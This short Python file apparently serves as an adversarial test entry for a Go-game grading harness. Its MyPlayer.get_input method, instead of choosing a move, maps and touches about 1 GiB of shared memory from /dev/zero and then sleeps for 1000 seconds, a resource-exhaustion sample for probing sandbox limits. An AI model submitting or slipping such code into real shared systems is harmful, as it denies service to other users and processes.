"""Hoards memory in shared mappings of /dev/zero."""

import mmap
import time


class MyPlayer:
    def get_input(self, go, piece_type):
        hoard = []
        with open("/dev/zero", "r+b", buffering=0) as zero:
            for _ in range(16):
                hoard.append(mmap.mmap(zero.fileno(), 64 << 20))
                for place in range(0, 64 << 20, 4096):
                    hoard[-1][place] = 1
        time.sleep(1000)
